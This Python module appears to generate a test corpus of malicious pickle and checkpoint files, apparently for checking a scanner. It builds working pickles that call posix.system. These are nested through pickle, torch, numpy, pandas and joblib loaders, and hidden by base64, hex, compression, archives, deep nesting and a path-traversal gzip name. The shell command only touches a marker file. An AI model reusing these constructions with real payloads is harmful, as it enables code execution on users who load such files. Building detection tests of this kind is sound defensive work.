"""Pickles within pickles: handed to something that unpickles them, or lying there as bytes or as text until somebody does."""
import base64
import bz2
import lzma
import zlib

from arrays import about, npy
from joblibs import COMPRESSIONS, gzipped, zstd
from opcodes import *
from torch_files import GOOD, checkpoint, document, legacy, state, tensor
from zips import Archive, Member

ATTACK = PROTO2 + payload() + STOP
ATTACK0 = b"cposix\nsystem\n(S'touch hullmark-was-here'\ntR."
ATTACK4 = PROTO4 + frame(stack_name("posix", "system") + MARK + short_text("touch hullmark-was-here") + TUPLE + REDUCE + STOP)


def stream(content):
    return call(name("_io", "BytesIO"), blob(content))


def loaders():
    for word, function in {
        "pickle": ("pickle", "loads"),
        "c-pickle": ("_pickle", "loads"),
        "python-pickle": ("pickle", "_loads"),
        "cloudpickle": ("cloudpickle", "loads"),
        "dill": ("dill", "loads"),
        "torch-bytes": ("torch.storage", "_load_from_bytes"),
        "joblib-cloudpickle": ("joblib.externals.cloudpickle.cloudpickle", "loads"),
        "multiprocessing": ("multiprocessing.reduction", "loads"),
    }.items():
        yield f"nested-by-{word}.pkl", PROTO2 + call(name(*function), blob(ATTACK)) + STOP
    yield "nested-by-pickle-load.pkl", PROTO2 + call(name("_pickle", "load"), stream(ATTACK)) + STOP
    yield "nested-by-joblib-load.pkl", PROTO2 + call(name("joblib.numpy_pickle", "load"), stream(ATTACK)) + STOP
    yield "nested-by-numpy-load.pkl", PROTO2 + call(name("numpy", "load"), stream(ATTACK), NONE, TRUE) + STOP
    yield "nested-by-numpy-read-array.pkl", PROTO2 + call(name("numpy.lib.format", "read_array"), stream(npy(about("'|O'", "(1,)"), ATTACK)), TRUE) + STOP
    yield "nested-by-pandas.pkl", PROTO2 + call(name("pandas", "read_pickle"), stream(ATTACK)) + STOP
    yield "nested-by-torch-load.pkl", PROTO2 + call(name("torch", "load"), stream(checkpoint(payload())), NONE, name("torch.serialization", "pickle")) + STOP
    yield "nested-by-torch-bytes-zip.pkl", PROTO2 + call(name("torch.storage", "_load_from_bytes"), blob(checkpoint(payload()))) + STOP
    yield "nested-by-torch-bytes-legacy.pkl", PROTO2 + call(name("torch.storage", "_load_from_bytes"), blob(legacy(payload()))) + STOP
    yield "nested-by-torch-bytes-in-tensor.pt", checkpoint(state(w=tensor(), v=call(name("torch.storage", "_load_from_bytes"), blob(ATTACK))))
    yield "nested-by-loads-of-zlib.pkl", PROTO2 + call(name("pickle", "loads"), call(name("zlib", "decompress"), blob(zlib.compress(ATTACK)))) + STOP
    yield "nested-by-loads-of-base64.pkl", PROTO2 + call(name("pickle", "loads"), call(name("base64", "b64decode"), text(base64.b64encode(ATTACK).decode()))) + STOP
    yield "nested-by-loads-of-hex.pkl", PROTO2 + call(name("pickle", "loads"), call(name("_codecs", "decode"), blob(ATTACK.hex().encode()), text("hex"))) + STOP
    yield "nested-by-loads-of-codec.pkl", PROTO2 + call(name("pickle", "loads"), call(name("_codecs", "encode"), text(ATTACK.decode("latin1")), text("latin1"))) + STOP
    deep = ATTACK
    for _ in range(60):
        deep = PROTO2 + call(name("pickle", "loads"), blob(deep)) + STOP
    yield "nested-60-deep.pkl", deep


def encoded():
    return {
        "raw": blob(ATTACK),
        "protocol-0": blob(ATTACK0),
        "protocol-4": blob(ATTACK4),
        "behind-bytes": blob(b"\0\1\2 some bytes first " + ATTACK),
        "base64": text(base64.b64encode(ATTACK).decode()),
        "base64-bytes": blob(base64.b64encode(ATTACK4)),
        "base64-in-lines": text(base64.encodebytes(ATTACK).decode()),
        "base64-url": text(base64.urlsafe_b64encode(ATTACK + b"\xff\xfe\xfb").decode()),
        "base64-twice": text(base64.b64encode(base64.b64encode(ATTACK)).decode()),
        "hex": text(ATTACK.hex()),
        "hex-upper": text(ATTACK.hex().upper()),
        "zlib": blob(zlib.compress(ATTACK)),
        "gzip": blob(gzipped(ATTACK)),
        "zip": blob(Archive([Member("data.pkl", ATTACK)]).bytes()),
        "checkpoint": blob(checkpoint(payload())),
        "elf": blob(b"\x7fELF\x02\x01\x01" + b"\0" * 57),
        "pe": blob(b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0d\x86" + b"\0" * 60),
        "as-text": text(ATTACK0.decode()),
        "bytearray": b"\x96" + struct.pack("<Q", len(ATTACK)) + ATTACK,
        "latin1": call(name("_codecs", "encode"), text(ATTACK.decode("latin1")), text("latin1")),
    }


def lying_there():
    for word, value in encoded().items():
        start = b"\x80\x05" if word == "bytearray" else PROTO2
        yield f"nested-as-{word}.pkl", start + dictionary(model=value) + STOP
    for word in ("raw", "base64", "hex", "zip"):
        yield f"nested-as-{word}-in-checkpoint.pt", checkpoint(state(w=tensor(), model=encoded()[word]))
        yield f"nested-as-{word}-in-array.pkl", PROTO2 + call(name("numpy", "array"), EMPTY_LIST + encoded()[word] + APPEND) + STOP


def around():
    """A compressed stream, or an archive, around a pickle or a checkpoint."""
    attack = checkpoint(payload())
    for word, compress in {"gz": gzipped, "bz2": bz2.compress, "xz": lzma.compress, "zst": zstd, "lzma": COMPRESSIONS["lzma"], "lz4": COMPRESSIONS["lz4"], "zlib": zlib.compress}.items():
        yield f"around-pickle.pkl.{word}", compress(ATTACK)
        yield f"around-checkpoint.pt.{word}", compress(attack)
        yield f"around-good-checkpoint-then-pickle.pt.{word}", compress(checkpoint(GOOD)) + ATTACK
        yield f"around-two-streams.pkl.{word}", compress(document(EMPTY_DICT)) + compress(ATTACK)
        yield f"around-gzip.pkl.gz.{word}", compress(gzipped(ATTACK))
        yield f"around-cut.pkl.{word}", compress(ATTACK)[:-7]
    many = ATTACK
    for _ in range(40):
        many = gzipped(many)
    yield "around-gzip-40-times.pkl.gz", many
    yield "around-gzip-wrong-crc.pkl.gz", gzipped(ATTACK)[:-8] + b"\0" * 4 + gzipped(ATTACK)[-4:]
    named = gzipped(ATTACK)
    yield "around-gzip-name-dotdot.pkl.gz", named[:3] + b"\x08" + named[4:10] + b"../../hullmark-was-here\0" + named[10:]


def cases():
    for family in (loaders, lying_there, around):
        yield from family()
